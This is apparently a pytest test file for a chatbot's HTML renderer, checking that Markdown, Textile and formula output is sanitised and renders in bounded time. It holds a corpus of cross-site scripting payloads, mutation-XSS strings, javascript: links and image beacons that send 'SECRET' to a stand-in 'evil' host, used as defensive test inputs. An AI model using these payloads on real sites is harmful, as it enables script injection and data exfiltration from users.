"""What a model may write to harm a reader (the corpus), and texts made to take for ever."""

import re
from functools import partial
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.computed import computed_within
from webbot.web.markup.cleaning import FORMULA_ATTRIBUTES, FORMULA_TAGS, TEXT_TAGS, TEXTILE_TAGS
from webbot.web.markup.colours import CLASSES
from webbot.web.render import Growing, answer_html, question_html, text_html

CORPUS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>", "<style>@import '//evil'</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](file:///etc/passwd)", "<javascript:alert(1)>",
    "[x](//evil/x)",
    "[x](/session_out)", "[x][1]\n\n[1]: javascript:alert(1)", "![x](https://evil/?q=SECRET)",
    "![x][1]\n\n[1]: https://evil/?q=SECRET",
    "![x](//evil/x)", "![](data:image/svg+xml,<svg onload=alert(1)>)", "[![x](https://evil/a)](https://b.c)",
    "![a\"onerror=alert(1) x](https://evil/x)", "[x](https://a.b \"onclick=alert(1)\")", "[x](https://a.b\"onclick=alert`1`)",
    "```html\n<script>alert(1)</script>\n```", "```\"onmouseover=alert(1)\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "$\\text{<img src=x onerror=alert(1)>}$", "$\\href{javascript:alert(1)}{x}$", "$\\style{background:url(//evil)}{x}$",
    "$\\class{k}{x}$",
    "$$\\unicode{x3c}script\\unicode{x3e}$$", "$\\color{red;background:url(//evil)}{x}$", "$<script>alert(1)</script>$",
    "$\\mathrm{</math><script>alert(1)</script>}$", "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "```mermaid\ngraph TD; A-->B; click A href \"javascript:alert(1)\"\n```", "<!-- --><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>", "<meta http-equiv=refresh content='0;url=//evil'>", "<base href=//evil>",
    "<b style=position:fixed>x</b>",
    "\"x\":javascript:alert(1)", "!https://evil/?q=SECRET!", "p{background:url(//evil)}. x", "p(class#id). x",
    "%{color:red}x%", "==<script>alert(1)</script>==",
    "notextile. <script>alert(1)</script>", "\"x(t)\":https://a.b/\"onclick=alert(1)", "[x]javascript:alert(1)\n\n\"y\":x",
    "!javascript:alert(1)(x)!:javascript:alert(1)",
    "<notextile><script>alert(1)</script></notextile>", "<pre><script>alert(1)</script></pre>",
    "<code><img src=x onerror=alert(1)></code>",
]
TAGS = TEXT_TAGS | TEXTILE_TAGS | FORMULA_TAGS | {"header", "button", "div"}
ATTRIBUTES = FORMULA_ATTRIBUTES | {"display"}


class Inspector(HTMLParser):
    """Reads HTML as a browser would tokenise it and objects to whatever the allow list does not hold."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            if name == "href":
                assert tag == "a"
                assert re.match(r"(https?://|mailto:)", value), value
            elif name == "class":
                assert set(value.split()) <= CLASSES | {"picture", "center", "right"}, value
            else:
                assert (tag, name, value) in {
                    ("a", "target", "_blank"), ("a", "rel", "noopener noreferrer nofollow"),
                    ("button", "type", "button"), ("button", "data-copy", ""),
                } or (tag == "ol" and name == "start" and value.isdigit()) or (tag in FORMULA_TAGS and name in ATTRIBUTES), name

    def handle_comment(self, data):
        raise AssertionError("a comment")

    def handle_decl(self, decl):
        raise AssertionError("a declaration")


def inspect(html):
    inspector = Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("markup", ["markdown", "textile"])
@pytest.mark.parametrize("evil", CORPUS)
def test_nothing_of_the_corpus_gets_through(evil, markup):
    for text in (evil, f"before {evil} after", f"- {evil}", f"> {evil}", f"| a |\n|---|\n| {evil} |", f"**{evil}", f"h1. {evil}"):
        inspect(answer_html(text, markup))
    inspect(question_html(evil))


@pytest.mark.parametrize("evil", CORPUS)
def test_nothing_gets_through_while_it_grows(evil):
    for cut in range(1, len(evil)):
        growing = Growing()
        for part in (evil[:cut], evil[cut:]):
            for block in (growing.feed(part) or (0, []))[1]:
                inspect(block)


def test_no_picture_is_loaded_and_what_it_shows_is_said():
    html = answer_html("![a cat](https://evil/?q=SECRET) ![](https://evil/?q=2)")
    assert html == '<p><span class="picture">a cat</span> <span class="picture">https://evil/?q=2</span></p>'


def test_the_operators_text_is_cleaned_too():
    html = text_html("<script>alert(1)</script><b onclick=alert(1) style='x'>b</b> %{color:red}r%")
    assert "script" not in html
    assert "onclick" not in html
    assert "style" not in html


WORDS = [*"<>\"'&=/!-[]()*_`~$\\{}^#|:;.%@+ \n\tax1", "script", "onerror=", "http://a.b", "javascript:", "math", "bc. "]


@pytest.mark.slow
@given(st.lists(st.sampled_from(WORDS), max_size=100).map("".join))
@settings(max_examples=150, deadline=None)
def test_whatever_is_written(text):
    inspect(answer_html(text))
    inspect(answer_html(text, "textile"))


ENDLESS = [
    "[", "![", "*", "_a ", "**a ", "`", "``a`", ">", "> ", "- ", "- a\n", "<", "&", "[a](", "[a][", "![[]()", "|", "|a|\n",
    "|-|\n", "[a]: b\n",
    "\\(", "$a", "$$a\n", "\\[a\n", "\u0301", "\u202e", "\x00", "```\n", "a\n ", "\n", "*_", "1. ", "# a\n", "~~~",
]


@pytest.mark.slow
@pytest.mark.parametrize("markup", ["markdown", "textile"])
@pytest.mark.parametrize("unit", ENDLESS, ids=repr)
def test_every_text_is_done_in_bounded_time(unit, markup):
    text = (unit * 100_000)[:100_000]
    inspect(computed_within(4, lambda: answer_html(text, markup)))  # the target is a second on a machine that does nothing else


@pytest.mark.slow
def test_every_language_is_coloured_in_bounded_time():
    """What takes the square of its length takes 9 s for 8000 characters where it takes 0.6 s for a quarter of them."""
    from webbot.web.markup import code

    for language in sorted(code.LANGUAGES):
        for unit in ("(", "'", "/*", "<a ", "{", "\\", "\n ", "${"):
            text = (unit * 2_000)[:2_000]
            computed_within(0.6, partial(code.coloured, text, language))
